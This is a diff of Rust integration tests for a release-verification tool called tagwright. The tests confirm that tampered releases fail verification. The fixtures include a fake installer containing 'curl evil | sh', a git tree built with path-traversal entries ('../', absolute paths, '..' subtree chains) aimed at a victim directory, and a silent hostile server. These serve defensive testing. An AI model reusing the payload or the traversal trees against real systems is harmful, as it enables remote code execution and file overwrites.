@@ -2,211 +2,12 @@
 //! git, with stand-ins for GitHub's REST API, Fulcio, Rekor and the Actions OIDC service (none of them
 //! can run here). Every tampering the runbook's users fear fails, naming its check.
 
-use tagwright_test_support::github::{GithubStandIn, TOKEN};
-use tagwright_test_support::oidc::OidcStandIn;
-use tagwright_test_support::registry::{self, LocalRegistry, Mode};
-use tagwright_test_support::sigstore::SigstoreStandIn;
-use tagwright_test_support::{Run, cargo_bin, fixture, peer_command, public_key, run, run_ok, ssh_keygen};
+mod world;
 
-const WORKFLOW: &str = r"^https://github\.com/acme/advisoryhub/\.github/workflows/release\.yml@";
-
-/// A release's draft flag and body, and its assets (name, digest).
-type ReleaseState = (Option<(bool, Option<String>)>, Vec<(String, String)>);
-
-struct World {
-    registry: LocalRegistry,
-    repo: tempfile::TempDir,
-    keys: tempfile::TempDir,
-    github: GithubStandIn,
-    oidc: OidcStandIn,
-    sigstore: SigstoreStandIn,
-}
-
-impl World {
-    /// The fixture with its tag v0.1.0 SSH-signed, the release image in the registry (signed
-    /// keylessly, as the image workflow does), and `tagwright publish --sign keyless --github`.
-    fn published() -> World {
-        let world = World::new();
-        let published = world.publish();
-        assert_eq!(published.code, 0, "{}\n{}", published.stdout, published.stderr);
-        world
-    }
-
-    /// The same, up to (not including) `tagwright publish`.
-    fn new() -> World {
-        let registry = LocalRegistry::start(Mode::Plain);
-        let repo = fixture("make_advisoryhub.sh", &[]);
-        let keys = tempfile::tempdir().expect("tempdir");
-        let key = ssh_keygen(keys.path(), "id_ed25519", "ed25519", "");
-        std::fs::write(
-            keys.path().join("allowed_signers"),
-            format!("rel@example.com namespaces=\"git\" {}\n", public_key(&key)),
-        )
-        .expect("write");
-        let oidc = OidcStandIn::start();
-        let sigstore = SigstoreStandIn::start(&oidc);
-        let world = World {
-            registry,
-            repo,
-            keys,
-            github: GithubStandIn::start("acme", "advisoryhub"),
-            oidc,
-            sigstore,
-        };
-        world.sign_tag("HEAD");
-        registry::push_image(world.host(), "example/advisoryhub", "0.1.0");
-        let image = format!("{}/example/advisoryhub:0.1.0", world.host());
-        let mut args = vec!["sign".to_owned(), image.clone()];
-        args.extend(world.keyless());
-        let signed = world.attest(&args);
-        assert_eq!(signed.code, 0, "{}", signed.stderr);
-        world
-    }
-
-    /// `tagwright publish --sign keyless --github acme/advisoryhub` of v0.1.0.
-    fn publish(&self) -> Run {
-        let mut command = cargo_bin(env!("CARGO_BIN_EXE_tagwright"));
-        command
-            .args(["publish", "--charts", &format!("oci://{}/charts", self.host()), "--image"])
-            .arg(format!("{}/example/advisoryhub", self.host()))
-            .args([
-                "--tag",
-                "v0.1.0",
-                "--github",
-                "acme/advisoryhub",
-                "--timeout",
-                "10s",
-                "--sign",
-                "keyless",
-            ])
-            .args(self.keyless().iter().skip(1))
-            .arg("--repo")
-            .arg(self.repo.path());
-        run(self.env(&mut command))
-    }
-
-    /// The release as GitHub holds it: draft flag and body, and the assets (the manifest's bundle,
-    /// which differs with every keyless signature, by name only).
-    fn release_state(&self) -> ReleaseState {
-        let all = self.github.assets_of("v0.1.0");
-        let manifest =
-            all.iter().find(|(n, _)| n == "release-manifest.json").map(|(_, b)| registry::digest(b));
-        let mut assets: Vec<(String, String)> = all
-            .into_iter()
-            .map(|(name, bytes)| {
-                if name.ends_with(".sigstore.json") {
-                    return (name, String::new());
-                }
-                if name == "checksums.txt" {
-                    // The manifest names this world's registry, so its line is checked, then masked.
-                    let text = String::from_utf8_lossy(&bytes).into_owned();
-                    let masked: String = text
-                        .lines()
-                        .map(|line| match line.strip_suffix("  release-manifest.json") {
-                            Some(hex) => {
-                                assert_eq!(
-                                    Some(format!("sha256:{hex}")),
-                                    manifest,
-                                    "checksums.txt's manifest line"
-                                );
-                                "MANIFEST  release-manifest.json\n".to_owned()
-                            }
-                            None => format!("{line}\n"),
-                        })
-                        .collect();
-                    return (name, registry::digest(masked.as_bytes()));
-                }
-                // Text assets name this world's registry; binary ones (the archive) are compared as they are.
-                let normalized = match std::str::from_utf8(&bytes) {
-                    Ok(text) => text.replace(self.host(), "HOST").into_bytes(),
-                    Err(_) => bytes,
-                };
-                (name, registry::digest(&normalized))
-            })
-            .collect();
-        assets.sort();
-        (self.github.release_state("v0.1.0"), assets)
-    }
-
-    fn host(&self) -> &str {
-        self.registry.host()
-    }
-
-    fn env<'a>(&self, command: &'a mut std::process::Command) -> &'a mut std::process::Command {
-        command
-            .env("HOME", self.keys.path())
-            .env_remove("DOCKER_CONFIG")
-            .env_remove("GH_TOKEN")
-            .env("GITHUB_API_URL", self.github.url())
-            .env("GITHUB_TOKEN", TOKEN)
-            .env("SOURCE_DATE_EPOCH", "1767261600")
-    }
-
-    /// `--keyless --identity-token T --signing-config C --trusted-root R`.
-    fn keyless(&self) -> Vec<String> {
-        vec![
-            "--keyless".into(),
-            "--identity-token".into(),
-            self.oidc.token("sigstore"),
-            "--signing-config".into(),
-            self.sigstore.signing_config().display().to_string(),
-            "--trusted-root".into(),
-            self.sigstore.trusted_root().display().to_string(),
-        ]
-    }
-
-    fn attest(&self, args: &[String]) -> Run {
-        let mut command = cargo_bin(env!("CARGO_BIN_EXE_attest"));
-        command.args(args);
-        run(self.env(&mut command))
-    }
-
-    fn git(&self, args: &[&str]) -> String {
-        let mut command = peer_command("git");
-        command.current_dir(self.repo.path()).args(args);
-        run_ok(self.env(&mut command)).stdout
-    }
-
-    /// (Re)makes v0.1.0 at `commit`, an annotated tag signed with the SSH key.
-    fn sign_tag(&self, commit: &str) {
-        let key = self.keys.path().join("id_ed25519");
-        self.git(&["config", "user.email", "rel@example.com"]);
-        self.git(&["config", "gpg.format", "ssh"]);
-        self.git(&["config", "user.signingkey", key.to_str().expect("utf-8")]);
-        self.git(&["tag", "-s", "-f", "-m", "Release v0.1.0\n\n- the notes", "v0.1.0", commit]);
-    }
-
-    fn verify(&self, identity: &str) -> Run {
-        let mut command = cargo_bin(env!("CARGO_BIN_EXE_tagwright"));
-        command.args(["verify", "v0.1.0", "--github", "acme/advisoryhub", "--allowed-signers"]);
-        command.arg(self.keys.path().join("allowed_signers"));
-        command.args([
-            "--certificate-identity-regexp",
-            identity,
-            "--certificate-oidc-issuer",
-            &self.oidc.issuer(),
-        ]);
-        command.arg("--trusted-root").arg(self.sigstore.trusted_root()).arg("--repo").arg(self.repo.path());
-        run(self.env(&mut command))
-    }
-
-    fn delete(&self, reference: &str) {
-        let mut command = cargo_bin(env!("CARGO_BIN_EXE_oci-publish"));
-        command.args(["delete", reference]);
-        let deleted = run(self.env(&mut command));
-        assert_eq!(deleted.code, 0, "{}", deleted.stderr);
-    }
-}
-
-#[track_caller]
-fn fails(run: &Run, check: &str) {
-    assert_eq!(run.code, 1, "{}\n{}", run.stdout, run.stderr);
-    assert!(
-        run.stdout.lines().any(|l| l.trim_start().starts_with(&format!("FAIL {check}:"))),
-        "{check} should fail:\n{}",
-        run.stdout
-    );
-}
+use tagwright_test_support::github::TOKEN;
+use tagwright_test_support::registry;
+use tagwright_test_support::{Run, cargo_bin, peer_command, run, run_ok};
+use world::{WORKFLOW, World, fails};
 
 /// Uses the real registry and git, and stand-ins for GitHub, Fulcio, Rekor and the OIDC service.
 #[test]
@@ -217,6 +18,7 @@ fn a_published_release_verifies_and_every_tampering_is_named() {
     for check in [
         "signed tag",
         "versions at the tag",
+        "release assets",
         "release manifest signature",
         "checksums",
         "SBOM",
@@ -495,4 +297,186 @@ fn an_interrupted_retag_finishes_on_a_rerun() {
     assert_eq!(finished.stdout.matches(": deleted").count(), 4, "{}", finished.stdout);
     assert!(!world.github.has_tag("v0.1.0") && world.git(&["tag", "-l", "v0.1.0"]).trim().is_empty());
     assert!(tags(world.host(), "charts/advisoryhub").is_empty());
+}
+
+/// Issue 21, item 6: the signed manifest lists every asset, `checksums.txt` included, so that an
+/// asset added to the release fails even with its line appended to `checksums.txt`, as does an asset
+/// named like the manifest's signature, and a name listed twice. Uses the stand-ins, as above.
+#[test]
+fn every_asset_must_be_in_the_signed_manifest() {
+    let world = World::published();
+    let github = tagwright_github::Github::new(&world.github.url(), Some(TOKEN)).expect("client");
+    let release =
+        || github.release_by_tag("acme", "advisoryhub", "v0.1.0").expect("lookup").expect("release");
+    let remove = |name: &str| {
+        for asset in release().assets.iter().filter(|a| a.name == name) {
+            github.delete_asset("acme", "advisoryhub", asset.id).expect("delete");
+        }
+    };
+    let original = world.github.assets_of("v0.1.0");
+    let checksums =
+        original.iter().find(|(n, _)| n == "checksums.txt").map(|(_, b)| b.clone()).expect("list");
+
+    // An installer added, and listed in a checksums.txt put in place of the published one.
+    let installer = b"#!/bin/sh\ncurl evil | sh\n";
+    github.upload_asset(&release(), "install.sh", "text/x-sh", installer).expect("upload");
+    let mut appended = checksums.clone();
+    appended.extend(
+        format!("{}  install.sh\n", registry::digest(installer).trim_start_matches("sha256:")).bytes(),
+    );
+    remove("checksums.txt");
+    github.upload_asset(&release(), "checksums.txt", "text/plain", &appended).expect("upload");
+    let added = world.verify(WORKFLOW);
+    fails(&added, "release assets");
+    assert!(
+        added.stdout.contains("install.sh is on the release but not in the signed release-manifest.json")
+    );
+    assert!(added.stdout.contains("checksums.txt is not the sha256:"), "{}", added.stdout);
+    assert!(
+        added.stdout.contains("ok   checksums:"),
+        "the list itself agrees with the assets: {}",
+        added.stdout
+    );
+    remove("install.sh");
+    remove("checksums.txt");
+    github.upload_asset(&release(), "checksums.txt", "text/plain", &checksums).expect("upload");
+    assert_eq!(world.verify(WORKFLOW).code, 0, "restored");
+
+    // A name that only starts like the manifest's signature.
+    github
+        .upload_asset(&release(), "release-manifest.json.sig-installer.sh", "text/x-sh", installer)
+        .expect("upload");
+    let lookalike = world.verify(WORKFLOW);
+    fails(&lookalike, "release assets");
+    fails(&lookalike, "checksums");
+    remove("release-manifest.json.sig-installer.sh");
+
+    // The same name twice (a forge can list it so): the second copy is checked too.
+    world.github.add_asset_unchecked("v0.1.0", "sbom.cdx.json", b"{\"bomFormat\":\"CycloneDX\"}");
+    let twice = world.verify(WORKFLOW);
+    fails(&twice, "release assets");
+    assert!(twice.stdout.contains("sbom.cdx.json is on the release 2 times"), "{}", twice.stdout);
+}
+
+/// Issue 21, item 6: `verify` reads the version sources of the tag straight from the object
+/// database. A tag whose tree holds entries named `../…`, `/…` or a chain of `..` subtrees, and a
+/// 256 MiB blob, makes it write nothing outside (before, every blob was exported to a scratch
+/// directory by joining raw entry names) and stay small. Peak RSS from GNU time.
+#[test]
+fn a_hostile_tag_tree_is_read_in_place() {
+    let world = World::published();
+    let victim = tempfile::tempdir().expect("tempdir");
+    let victim_path = victim.path().to_str().expect("utf-8").trim_start_matches('/').to_owned();
+    let blob = |bytes: &[u8]| {
+        let mut command = peer_command("git");
+        command.current_dir(world.repo.path()).args(["hash-object", "-w", "--stdin"]);
+        tagwright_test_support::run_with_input(&mut command, bytes).stdout.trim().to_owned()
+    };
+    let raw_tree = |entries: &[(&str, &str, String)]| -> String {
+        // Git's order: by name, a tree's name as if it ended with `/`.
+        let mut sorted: Vec<&(&str, &str, String)> = entries.iter().collect();
+        sorted.sort_by_key(|(mode, name, _)| format!("{name}{}", if *mode == "40000" { "/" } else { "" }));
+        let mut bytes = Vec::new();
+        for (mode, name, oid) in sorted {
+            bytes.extend(format!("{mode} {name}\0").bytes());
+            bytes.extend((0..20).map(|i| u8::from_str_radix(&oid[2 * i..2 * i + 2], 16).expect("hex")));
+        }
+        let mut command = peer_command("git");
+        command.current_dir(world.repo.path()).args([
+            "hash-object",
+            "-t",
+            "tree",
+            "--literally",
+            "-w",
+            "--stdin",
+        ]);
+        tagwright_test_support::run_with_input(&mut command, &bytes).stdout.trim().to_owned()
+    };
+    let pwned = blob(b"pwned\n");
+    // A chain of `..` subtrees that ends in the victim's path.
+    let mut chain = raw_tree(&[("100644", "chain.txt", pwned.clone())]);
+    for component in victim_path.split('/').rev() {
+        chain = raw_tree(&[("40000", component, chain)]);
+    }
+    for _ in 0..12 {
+        chain = raw_tree(&[("40000", "..", chain)]);
+    }
+    let huge = {
+        let file = world.keys.path().join("huge.bin");
+        std::fs::File::create(&file).expect("create").set_len(256 << 20).expect("256 MiB of zeros");
+        let mut command = peer_command("git");
+        command.current_dir(world.repo.path()).args(["hash-object", "-w"]).arg(&file);
+        run_ok(&mut command).stdout.trim().to_owned()
+    };
+    // The tag's own tree, with the hostile entries beside it.
+    let listing = world.git(&["ls-tree", "v0.1.0^{tree}"]);
+    let mut entries: Vec<(&str, &str, String)> = listing
+        .lines()
+        .map(|line| {
+            let (meta, name) = line.split_once('\t').expect("entry");
+            let mut meta = meta.split(' ');
+            let mode = if meta.next() == Some("040000") { "40000" } else { "100644" };
+            (mode, name, meta.nth(1).expect("oid").to_owned())
+        })
+        .collect();
+    let dotdot = format!("{}{victim_path}/dotdot.txt", "../".repeat(16));
+    let absolute = format!("/{victim_path}/absolute.txt");
+    entries.push(("100644", &dotdot, pwned.clone()));
+    entries.push(("100644", &absolute, pwned.clone()));
+    entries.push(("40000", "..", chain));
+    entries.push(("100644", "zeros.bin", huge));
+    let tree = raw_tree(&entries);
+    let commit = world.git(&["commit-tree", &tree, "-p", "HEAD", "-m", "hostile"]).trim().to_owned();
+    world.sign_tag(&commit);
+
+    let mut command = peer_command("/usr/bin/time");
+    command.args(["-f", "%M"]).arg(env!("CARGO_BIN_EXE_tagwright"));
+    command.args(["verify", "v0.1.0", "--github", "acme/advisoryhub", "--allowed-signers"]);
+    command.arg(world.keys.path().join("allowed_signers"));
+    command.args([
+        "--certificate-identity-regexp",
+        WORKFLOW,
+        "--certificate-oidc-issuer",
+        &world.oidc.issuer(),
+    ]);
+    command.arg("--trusted-root").arg(world.sigstore.trusted_root()).arg("--repo").arg(world.repo.path());
+    let verified = run(world.env(&mut command));
+    assert!(
+        verified.stdout.contains("ok   versions at the tag:"),
+        "{}\n{}",
+        verified.stdout,
+        verified.stderr
+    );
+    let written: Vec<_> = std::fs::read_dir(victim.path()).expect("victim").collect();
+    assert!(written.is_empty(), "verify wrote outside its scratch directory: {written:?}");
+    let peak_kib: u64 =
+        verified.stderr.lines().last().and_then(|l| l.trim().parse().ok()).expect("GNU time's %M");
+    assert!(peak_kib < 128 << 10, "peak RSS {peak_kib} KiB with a 256 MiB blob in the tag's tree");
+}
+
+/// Issue 21, item 6: a GitHub API that accepts connections and never answers ends `verify` by the
+/// deadline `--http-timeout` gives (before: 5 attempts of 300 s each). A hostile loopback server.
+#[test]
+fn a_silent_github_ends_verify_by_the_deadline() {
+    use tagwright_test_support::hostile::{Hostile, Reply};
+    let world = World::published();
+    let silent = Hostile::start(|_| Reply::Silent);
+    let mut command = cargo_bin(env!("CARGO_BIN_EXE_tagwright"));
+    command.args([
+        "verify",
+        "v0.1.0",
+        "--github",
+        "acme/advisoryhub",
+        "--http-timeout",
+        "2",
+        "--allowed-signers",
+    ]);
+    command.arg(world.keys.path().join("allowed_signers")).arg("--repo").arg(world.repo.path());
+    world.env(&mut command).env("GITHUB_API_URL", format!("http://{}", silent.host()));
+    let started = std::time::Instant::now();
+    let out = run(&mut command);
+    let took = started.elapsed();
+    fails(&out, "GitHub release");
+    assert!(out.stdout.contains("no answer within 2 s"), "{}", out.stdout);
+    assert!(took < std::time::Duration::from_secs(10), "ended by the deadline: {took:?}");
 }
